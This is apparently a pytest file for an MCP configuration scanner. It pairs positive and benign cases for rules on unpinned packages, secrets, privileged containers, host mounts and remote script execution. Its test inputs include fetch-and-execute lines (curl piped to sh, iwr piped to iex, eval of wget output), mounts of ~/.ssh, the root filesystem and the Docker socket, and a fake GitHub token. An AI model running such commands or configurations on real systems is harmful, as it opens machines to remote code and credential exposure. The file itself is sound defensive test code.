"""One positive case and one benign look-alike per static check."""

from __future__ import annotations

from pathlib import Path

from scan_testkit import RuleRunner, make_entry

from mcpwarden.detect.findings import Severity
from mcpwarden.scan.checks import CheckContext
from mcpwarden.scan.osv import OsvDatabase

GH_TOKEN = "ghp_" + "R8aK2mWq9ZxT4vLp7Nc3Jd6Hs1Fg5Bb0Ye2U"


# MCPW-S001 unpinned packages
def test_npx_without_version_is_unpinned(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S001", make_entry("npx", ["-y", "@modelcontextprotocol/server-memory"]))
    assert issue.severity == Severity.MEDIUM
    assert "without a version" in issue.message


def test_npx_with_exact_version_is_pinned(run_rule: RuleRunner) -> None:
    assert (
        run_rule("MCPW-S001", make_entry("npx", ["-y", "@modelcontextprotocol/server-memory@2026.8.31"]))
        == []
    )


def test_uvx_without_version_is_unpinned(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S001", make_entry("uvx", ["mcp-server-fetch"]))) == 1


def test_uvx_with_double_equals_is_pinned(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S001", make_entry("uvx", ["mcp-server-fetch==2026.10.24"])) == []


def test_pipx_run_without_version_is_unpinned(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S001", make_entry("pipx", ["run", "mcp-server-fetch"]))) == 1


def test_git_reference_without_commit_is_unpinned(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S001", make_entry("npx", ["github:someone/mcp-server"]))) == 1
    assert run_rule("MCPW-S001", make_entry("npx", ["github:someone/mcp-server#" + "a1" * 20])) == []


# MCPW-S002 floating tags
def test_latest_tag_is_floating(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S002", make_entry("npx", ["-y", "@upstash/context7-mcp@latest"]))
    assert "latest" in issue.message


def test_package_whose_name_contains_latest_is_not_floating(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S002", make_entry("npx", ["-y", "latest-news-mcp@1.0.0"])) == []


def test_untagged_image_is_implicitly_latest(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S002", make_entry("docker", ["run", "-i", "--rm", "mcp/fetch"]))) == 1


# MCPW-S003 images without digest
def test_tagged_image_without_digest(run_rule: RuleRunner) -> None:
    (issue,) = run_rule(
        "MCPW-S003", make_entry("docker", ["run", "-i", "ghcr.io/github/github-mcp-server:v0.9.0"])
    )
    assert "v0.9.0" in issue.message


def test_image_with_digest_is_pinned(run_rule: RuleRunner) -> None:
    image = "ghcr.io/github/github-mcp-server:v0.9.0@sha256:" + "0f" * 32
    entry = make_entry("docker", ["run", "-i", image])
    assert run_rule("MCPW-S003", entry) == [] and run_rule("MCPW-S002", entry) == []


def test_podman_is_checked_like_docker(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S003", make_entry("podman", ["run", "-i", "quay.io/x/y:1"]))) == 1


# MCPW-S004 plain HTTP
def test_public_plain_http_url(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S004", make_entry(url="http://mcp.example.com/mcp"))
    assert issue.severity == Severity.HIGH


def test_private_plain_http_is_medium(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S004", make_entry(url="http://10.0.0.5:8080/mcp"))
    assert issue.severity == Severity.MEDIUM


def test_loopback_plain_http_is_fine(run_rule: RuleRunner) -> None:
    for url in ("http://localhost:3000/mcp", "http://127.0.0.1:8000/sse", "http://[::1]:9000/mcp"):
        assert run_rule("MCPW-S004", make_entry(url=url)) == []


def test_https_is_fine(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S004", make_entry(url="https://mcp.example.com/mcp")) == []


def test_plain_http_in_a_proxy_argument(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "mcp-remote@0.15.1", "http://mcp.example.com/sse"])
    assert len(run_rule("MCPW-S004", entry)) == 1


# MCPW-S005 secrets
def test_token_in_env_value(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S005", make_entry("npx", ["x@1.0.0"], env={"GITHUB_TOKEN": GH_TOKEN}))
    assert issue.severity == Severity.CRITICAL
    assert GH_TOKEN not in issue.message


def test_token_found_by_value_even_under_an_innocent_key(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S005", make_entry("npx", ["x@1.0.0"], env={"SETTING": GH_TOKEN}))) == 1


def test_placeholder_in_env_is_not_a_secret(run_rule: RuleRunner) -> None:
    env = {
        "GITHUB_TOKEN": "${env:GITHUB_TOKEN}",
        "API_KEY": "${input:api-key}",
        "SLACK_TOKEN": "<your-token>",
    }
    assert run_rule("MCPW-S005", make_entry("npx", ["x@1.0.0"], env=env)) == []


def test_random_value_under_secret_key_is_reported_by_the_detector(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S005", make_entry("npx", ["x@1.0.0"], env={"ACME_API_KEY": "q8Zr2LmX7vTn4KpW"}))
    assert issue.details["kind"] == "high-entropy"


def test_short_literal_under_secret_key_is_reported_by_name(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S005", make_entry("npx", ["x@1.0.0"], env={"ACME_API_KEY": "q8Zr2LmX7vTn4K"}))
    assert (issue.severity, issue.details["kind"]) == (Severity.MEDIUM, "literal-credential")


def test_plain_setting_under_secret_sounding_key_is_fine(run_rule: RuleRunner) -> None:
    env = {"AUTH_MODE": "oauth", "TOKEN_FILE": "/home/dev/.config/token.json"}
    assert run_rule("MCPW-S005", make_entry("npx", ["x@1.0.0"], env=env)) == []


def test_secret_in_argument_points_at_that_argument(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "x@1.0.0", "--api-key", GH_TOKEN])
    (issue,) = run_rule("MCPW-S005", entry)
    assert "argument 3" in issue.message


def test_connection_string_password_in_argument(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "x@1.0.0", "postgresql://app:S3cr3tPassw0rd@db:5432/app"])
    assert len(run_rule("MCPW-S005", entry)) == 1


def test_connection_string_without_password_is_fine(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "x@1.0.0", "postgresql://localhost:5432/app"])
    assert run_rule("MCPW-S005", entry) == []


def test_bearer_token_in_header(run_rule: RuleRunner) -> None:
    entry = make_entry(url="https://x.example/mcp", headers={"Authorization": f"Bearer {GH_TOKEN}"})
    assert len(run_rule("MCPW-S005", entry)) == 1


def test_header_referencing_an_input_is_fine(run_rule: RuleRunner) -> None:
    entry = make_entry(url="https://x.example/mcp", headers={"Authorization": "Bearer ${input:gh-token}"})
    assert run_rule("MCPW-S005", entry) == []


# MCPW-S006 privileged containers
def test_privileged_container(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S006", make_entry("docker", ["run", "--privileged", "img@sha256:" + "a" * 64]))
    assert issue.severity == Severity.CRITICAL


def test_cap_add_sys_admin_is_high_and_chown_is_medium(run_rule: RuleRunner) -> None:
    entry = make_entry("docker", ["run", "--cap-add=SYS_ADMIN", "--cap-add", "CHOWN", "img"])
    assert sorted(i.severity for i in run_rule("MCPW-S006", entry)) == [Severity.MEDIUM, Severity.HIGH]


def test_dropping_capabilities_is_fine(run_rule: RuleRunner) -> None:
    entry = make_entry("docker", ["run", "--cap-drop", "ALL", "--security-opt", "no-new-privileges", "img"])
    assert run_rule("MCPW-S006", entry) == []


def test_unconfined_seccomp(run_rule: RuleRunner) -> None:
    entry = make_entry("docker", ["run", "--security-opt", "seccomp=unconfined", "img"])
    assert len(run_rule("MCPW-S006", entry)) == 1


# MCPW-S007 host namespaces
def test_host_network(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S007", make_entry("docker", ["run", "--net=host", "img"]))) == 1
    assert len(run_rule("MCPW-S007", make_entry("docker", ["run", "--pid", "host", "img"]))) == 1


def test_bridge_network_is_fine(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S007", make_entry("docker", ["run", "--network", "bridge", "img"])) == []


# MCPW-S008 sensitive mounts
def test_root_mount(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S008", make_entry("docker", ["run", "-v", "/:/host:ro", "img"]))
    assert issue.severity == Severity.CRITICAL and "read-only" in issue.message


def test_home_and_ssh_mounts(run_rule: RuleRunner) -> None:
    entry = make_entry(
        "docker", ["run", "-v", "$HOME:/h", "--mount", "type=bind,source=~/.ssh,target=/k", "img"]
    )
    assert len(run_rule("MCPW-S008", entry)) == 2


def test_docker_socket_mount(run_rule: RuleRunner) -> None:
    entry = make_entry("docker", ["run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "img"])
    assert len(run_rule("MCPW-S008", entry)) == 1


def test_project_folder_mount_is_fine(run_rule: RuleRunner) -> None:
    entry = make_entry(
        "docker", ["run", "-v", "/home/dev/projects/app:/workspace", "-v", "data:/data", "img"]
    )
    assert run_rule("MCPW-S008", entry) == []


def test_windows_drive_mount_of_user_profile(run_rule: RuleRunner) -> None:
    entry = make_entry("docker", ["run", "-v", "C:\\Users\\dev:/home", "img"])
    assert len(run_rule("MCPW-S008", entry)) == 1


# MCPW-S009 filesystem server scope
def test_filesystem_server_at_root(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"])
    assert len(run_rule("MCPW-S009", entry)) == 1


def test_filesystem_server_at_home(run_rule: RuleRunner) -> None:
    for home in ("~", "/home/dev", "/Users/dev/", "C:\\Users\\dev"):
        entry = make_entry("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/srv", home])
        assert len(run_rule("MCPW-S009", entry)) == 1, home


def test_filesystem_server_at_given_home_dir(run_rule: RuleRunner, tmp_path: Path) -> None:
    entry = make_entry("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", str(tmp_path)])
    assert len(run_rule("MCPW-S009", entry, CheckContext(home=tmp_path))) == 1


def test_filesystem_server_at_project_folder_is_fine(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "~/projects/demo"])
    assert run_rule("MCPW-S009", entry) == []


def test_other_server_given_root_is_not_a_filesystem_finding(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S009", make_entry("uvx", ["mcp-server-git==1.0", "--repository", "/"])) == []


# MCPW-S010 shell wrappers
def test_bash_c(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S010", make_entry("bash", ["-c", "exec my-server --port 1"]))) == 1


def test_powershell_encoded_command_is_high(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S010", make_entry("powershell", ["-EncodedCommand", "bgBwAHgA"]))
    assert issue.severity == Severity.HIGH


def test_cmd_c_npx_on_windows_is_fine(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S010", make_entry("cmd", ["/c", "npx", "-y", "pkg@1.0.0"])) == []


def test_cmd_c_with_operators_is_a_shell_wrapper(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S010", make_entry("cmd", ["/c", "cd C:\\srv && server.exe"]))) == 1


def test_bash_running_a_script_file_is_fine(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S010", make_entry("bash", ["/opt/mcp/start.sh"])) == []


# MCPW-S011 remote script execution
def test_curl_pipe_sh(run_rule: RuleRunner) -> None:
    entry = make_entry("sh", ["-c", "curl -fsSL https://get.example.sh | sh"])
    assert run_rule("MCPW-S011", entry)[0].severity == Severity.CRITICAL


def test_iwr_pipe_iex(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S011", make_entry("pwsh", ["-c", "iwr https://x.example/i.ps1 | iex"]))) == 1


def test_command_substitution_of_wget(run_rule: RuleRunner) -> None:
    assert (
        len(run_rule("MCPW-S011", make_entry("bash", ["-c", 'eval "$(wget -qO- https://x.example)"']))) == 1
    )


def test_curl_to_a_file_is_not_remote_execution(run_rule: RuleRunner) -> None:
    entry = make_entry("bash", ["-c", "curl -o /tmp/data.json https://x.example/data.json && my-server"])
    assert run_rule("MCPW-S011", entry) == []


# MCPW-S012 typosquats (detailed cases in test_scan_typosquat.py)
def test_typosquatted_npm_package(run_rule: RuleRunner) -> None:
    (issue,) = run_rule("MCPW-S012", make_entry("npx", ["-y", "@modelcontextprotcol/server-memory@1.0.0"]))
    assert "@modelcontextprotocol/server-memory" in issue.message


def test_well_known_package_is_not_a_typosquat(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S012", make_entry("npx", ["-y", "@modelcontextprotocol/server-memory@1.0.0"])) == []


# MCPW-S013 known vulnerable versions
def test_vulnerable_pinned_version(run_rule: RuleRunner, fixtures: Path) -> None:
    ctx = CheckContext(osv=OsvDatabase.load(fixtures / "osv"))
    entry = make_entry("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/srv"])
    (issue,) = run_rule("MCPW-S013", entry, ctx)
    assert "MCPW-TEST-2026-0001" in issue.message and "2026.9.1" in issue.message
    assert issue.severity == Severity.HIGH


def test_fixed_version_is_not_vulnerable(run_rule: RuleRunner, fixtures: Path) -> None:
    ctx = CheckContext(osv=OsvDatabase.load(fixtures / "osv"))
    entry = make_entry("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.9.1", "/srv"])
    assert run_rule("MCPW-S013", entry, ctx) == []


def test_unpinned_package_is_not_matched_against_advisories(run_rule: RuleRunner, fixtures: Path) -> None:
    ctx = CheckContext(osv=OsvDatabase.load(fixtures / "osv"))
    assert run_rule("MCPW-S013", make_entry("uvx", ["mcp-server-fetch"]), ctx) == []


# MCPW-S014 privilege elevation
def test_sudo(run_rule: RuleRunner) -> None:
    assert len(run_rule("MCPW-S014", make_entry("sudo", ["-E", "/usr/local/bin/admin-mcp"]))) == 1


def test_argument_named_sudo_is_fine(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S014", make_entry("npx", ["-y", "sudo-helper-mcp@1.0.0", "--mode", "sudo"])) == []


# MCPW-S015 TLS verification disabled
def test_node_tls_reject_unauthorized_zero(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "x@1.0.0"], env={"NODE_TLS_REJECT_UNAUTHORIZED": "0"})
    assert len(run_rule("MCPW-S015", entry)) == 1


def test_node_tls_reject_unauthorized_one_is_fine(run_rule: RuleRunner) -> None:
    entry = make_entry("npx", ["-y", "x@1.0.0"], env={"NODE_TLS_REJECT_UNAUTHORIZED": "1"})
    assert run_rule("MCPW-S015", entry) == []


def test_insecure_flag(run_rule: RuleRunner) -> None:
    assert (
        len(run_rule("MCPW-S015", make_entry("npx", ["-y", "mcp-remote@0.15.1", "https://x", "--insecure"])))
        == 1
    )


def test_dash_k_outside_curl_is_not_insecure(run_rule: RuleRunner) -> None:
    assert run_rule("MCPW-S015", make_entry("my-server", ["-k", "5"])) == []


def test_issue_points_at_the_line_of_the_offending_field(fixtures: Path) -> None:
    from mcpwarden.scan.checks import run_static_checks
    from mcpwarden.scan.formats import load_path

    entries = load_path(fixtures / "homes/linux/.config/Claude/claude_desktop_config.json")
    issues = {i.rule_id: i for i in run_static_checks(entries)}
    assert issues["MCPW-S005"].line == 15  # the env value
    assert issues["MCPW-S001"].line == 13  # the args array


def test_remote_script_message_does_not_repeat_a_token_in_the_url(run_rule: RuleRunner) -> None:
    entry = make_entry("bash", ["-c", f"curl -H 'Authorization: token {GH_TOKEN}' https://x.example/i | sh"])
    (issue,) = run_rule("MCPW-S011", entry)
    assert GH_TOKEN not in issue.message
